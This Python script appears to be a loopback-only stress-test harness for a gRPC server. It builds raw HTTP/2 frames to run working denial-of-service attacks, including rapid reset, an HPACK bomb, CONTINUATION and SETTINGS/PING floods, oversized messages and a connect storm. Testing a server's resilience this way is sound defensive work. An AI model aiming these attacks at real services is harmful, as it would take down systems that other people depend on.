"""Clients that no gRPC library would be: each sends one thing, as fast as it is taken, on four connections.

    python3 attacks.py NAME PORT SECONDS [tls]

A program of its own, so that it shares no interpreter with the polite client. Loopback only. Prints what it sent."""
import json
import selectors
import socket
import ssl
import struct
import sys
import time

KV = "/prism.patterns.keyvalue.KeyValuePattern/"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
CONNECTIONS = 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(s):
    s = s if isinstance(s, bytes) else s.encode()
    if len(s) < 127:
        return bytes([len(s)]) + s
    n, out = len(s) - 127, b"\x7f"
    while n > 127:
        out += bytes([n & 127 | 128])
        n >>= 7
    return out + bytes([n]) + s


def block(path=KV + "Store", *extra):
    pairs = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"), ("te", "trailers"),
             ("content-type", "application/grpc"), *extra]
    return b"".join(b"\0" + text(k) + text(v) for k, v in pairs)


def message(payload, flag=0):
    return bytes([flag]) + struct.pack(">I", len(payload)) + payload


STORE = message(b"\x0a\x01a\x12\x01v")


class Streams:
    """One piece of attack after the other, each on the next stream."""

    def __init__(self, piece, at_once=100, first=b""):
        self.piece, self.at_once, self.first = piece, at_once, first
        self.stream = 1

    def __call__(self):
        out, self.first = self.first, b""
        for _ in range(self.at_once):
            out += self.piece(self.stream)
            self.stream += 2
        return out


class Same:
    """The same bytes again and again, behind a first piece."""

    def __init__(self, again, first=b"", times=1000):
        self.again, self.first = again * times, first

    def __call__(self):
        out, self.first = self.first, b""
        return out or self.again


def rapid_reset():
    head = block()
    return Streams(lambda s: frame(HEADERS, END_HEADERS, s, head) + frame(DATA, END_STREAM, s, STORE)
                   + frame(RST, 0, s, b"\0\0\0\x08"))


def reset_without_message():
    head = block()
    return Streams(lambda s: frame(HEADERS, END_HEADERS, s, head) + frame(RST, 0, s, b"\0\0\0\x08"))


def made_you_reset():
    """The server resets: a window update of nothing."""
    head = block()
    return Streams(lambda s: frame(HEADERS, END_HEADERS, s, head) + frame(WINDOW_UPDATE, 0, s, b"\0\0\0\0"))


def headers_only():
    head = block()
    return Streams(lambda s: frame(HEADERS, END_HEADERS, s, head))


def half_messages():
    """60 kB of a message of 4 MB."""
    head, part = block(), b"\0" + struct.pack(">I", 4 << 20) + b"x" * 16000
    more = b"x" * 16000
    return Streams(lambda s: frame(HEADERS, END_HEADERS, s, head) + frame(DATA, 0, s, part)
                   + b"".join(frame(DATA, 0, s, more) for _ in range(3)), 5,
                   frame(WINDOW_UPDATE, 0, 0, b"\x3f\xff\xff\xff"))


def promised_sizes():
    head, part = block(), b"\0" + struct.pack(">I", 4 << 20)
    return Streams(lambda s: frame(HEADERS, END_HEADERS, s, head) + frame(DATA, 0, s, part))


def wrong_prefix():
    head, body = block(), b"\xee" + b"\xff" * 20
    return Streams(lambda s: frame(HEADERS, END_HEADERS, s, head) + frame(DATA, END_STREAM, s, body))


def unknown_methods():
    return Streams(lambda s: frame(HEADERS, END_HEADERS, s, block(f"/no.such.Service/Method{s}"))
                   + frame(DATA, END_STREAM, s, STORE))


def odd_namespaces():
    return Streams(lambda s: frame(HEADERS, END_HEADERS, s, block(KV + "Store", ("x-prism-namespace", f"n{s}")))
                   + frame(DATA, END_STREAM, s, STORE))


def big_headers():
    head = block(KV + "Store", ("x-big", "y" * 65000))
    pieces = [head[i:i + 16000] for i in range(0, len(head), 16000)]

    def piece(s):
        out = frame(HEADERS, 0, s, pieces[0])
        for i, p in enumerate(pieces[1:], 2):
            out += frame(CONTINUATION, END_HEADERS if i == len(pieces) else 0, s, p)
        return out + frame(DATA, END_STREAM, s, STORE)
    return Streams(piece, 5)


def hpack_bomb():
    """One entry of 3 kB, named 4,000 times by a byte each."""
    entry = frame(HEADERS, END_HEADERS, 1, block() + b"\x40" + text("x-bomb") + text("z" * 3000))
    head = block() + b"\xbe" * 4000
    bomb = Streams(lambda s: frame(HEADERS, END_HEADERS, s, head) + frame(DATA, END_STREAM, s, STORE), 20, entry)
    bomb.stream = 3
    return bomb


def continuation():
    """A header list that does not end."""
    more = frame(CONTINUATION, 0, 1, b"".join(b"\0" + text("x-%d" % i) + text("v" * 100) for i in range(100)))
    return Same(more, frame(HEADERS, 0, 1, block()), 20)


def continuation_empty():
    return Same(frame(CONTINUATION, 0, 1), frame(HEADERS, 0, 1, block()), 5000)


def settings_flood():
    return Same(frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff"), times=3000)


def ping_flood():
    return Same(frame(PING, 0, 0, b"\0" * 8), times=3000)


def empty_data():
    return Same(frame(DATA, 0, 1), frame(HEADERS, END_HEADERS, 1, block()), 5000)


def dribble():
    """A window that opens by a byte."""
    return Same(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"), times=3000)


def priorities():
    return Same(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10"), times=3000)


def garbage():
    return Same(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n\x16\x03\x01\x02\x00", times=100)


ATTACKS = {f.__name__: f for f in (
    rapid_reset, reset_without_message, made_you_reset, headers_only, half_messages, promised_sizes, wrong_prefix,
    unknown_methods, odd_namespaces, big_headers, hpack_bomb, continuation, continuation_empty, settings_flood,
    ping_flood, empty_data, dribble, priorities, garbage)}
NEVER_READ = {"settings_flood"}


class Attacker:
    """One connection: sends what the attack makes, and connects again when it is thrown out."""

    def __init__(self, name, port, secure):
        self.name, self.port, self.secure = name, port, secure
        self.socket, self.bytes, self.connects = None, 0, 0
        self.connect()

    def connect(self):
        s = socket.create_connection(("127.0.0.1", self.port), 5)
        if self.secure:
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            s = context.wrap_socket(s)
        s.setblocking(False)
        self.socket, self.connects = s, self.connects + 1
        self.make = ATTACKS[self.name]()
        self.rest = memoryview(b"" if self.name == "garbage" else PREFACE)

    def send(self):
        if not self.rest:
            self.rest = memoryview(self.make())
        n = self.socket.send(self.rest)
        self.bytes += n
        self.rest = self.rest[n:]

    def read(self):
        if not self.socket.recv(1 << 16):
            raise ConnectionResetError


def attack(name, port, seconds, secure):
    """Returns (bytes sent, connections made)."""
    end = time.monotonic() + seconds
    gone = [0, 0]
    with selectors.DefaultSelector() as selector:
        def enter():
            try:
                attacker = Attacker(name, port, secure)
            except OSError:
                return
            selector.register(attacker.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, attacker)

        def leave(attacker):
            selector.unregister(attacker.socket)
            attacker.socket.close()
            gone[0] += attacker.bytes
            gone[1] += attacker.connects
        while time.monotonic() < end:
            while len(selector.get_map()) < CONNECTIONS and time.monotonic() < end:
                enter()
            for key, events in selector.select(0.05):
                try:
                    if events & selectors.EVENT_READ and name not in NEVER_READ:
                        key.data.read()
                    if events & selectors.EVENT_WRITE:
                        key.data.send()
                except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                    pass
                except OSError:
                    leave(key.data)
        for key in list(selector.get_map().values()):
            leave(key.data)
    return tuple(gone)


def connect_storm(port, seconds):
    """Connections that are closed as soon as they stand."""
    end, n = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        with socket.create_connection(("127.0.0.1", port), 5) as s:
            s.sendall(PREFACE)
        n += 1
    return 0, n


if __name__ == "__main__":
    which, where, how_long = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    if which == "connect_storm":
        sent, connects = connect_storm(where, how_long)
    else:
        sent, connects = attack(which, where, how_long, "tls" in sys.argv[4:])
    print(json.dumps({"bytes": sent, "connections": connects}))
